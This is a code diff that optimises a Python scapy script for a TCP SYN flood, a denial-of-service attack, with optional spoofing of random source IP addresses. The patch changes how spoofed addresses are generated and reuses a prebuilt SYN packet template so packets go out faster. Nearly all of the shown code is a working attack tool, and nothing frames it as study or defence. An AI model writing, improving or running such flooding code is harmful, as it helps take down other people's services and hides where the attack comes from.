@@ -3,13 +3,14 @@ from scapy.all import *
 from scapy.arch.windows import get_windows_if_list
 import argparse
 import random
+import socket
 import sys
 import time
 import ctypes
 
 def generate_random_ip():
     """Generate a random IP address for spoofing"""
-    return ".".join(map(str, (random.randint(0, 255) for _ in range(4))))
+    return socket.inet_ntoa(random.randbytes(4))
 
 def syn_flood(target_ip, target_port, count=1000, interval=0.01, spoof=False, verbose=False):
     """
@@ -24,15 +25,14 @@ def syn_flood(target_ip, target_port, count=1000, interval=0.01, spoof=False, ve
     sent = 0
     print(f"[*] Starting TCP SYN flood attack on {target_ip}:{target_port}")
     
+    # Build the SYN once; each iteration only rewrites source fields
+    template = IP(dst=target_ip)/TCP(dport=target_port, flags="S")
+    
     try:
         while True:
-            src_ip = generate_random_ip() if spoof else None
-            src_port = random.randint(1024, 65535)
-            
-            # Craft TCP SYN packet
-            ip_layer = IP(dst=target_ip, src=src_ip)
-            tcp_layer = TCP(sport=src_port, dport=target_port, flags="S")
-            packet = ip_layer/tcp_layer
+            packet = template.copy()
+            packet[IP].src = generate_random_ip() if spoof else None
+            packet[TCP].sport = random.randint(1024, 65535)
             
             if verbose:
                 print(f"Sending packet #{sent+1}: {packet.summary()}")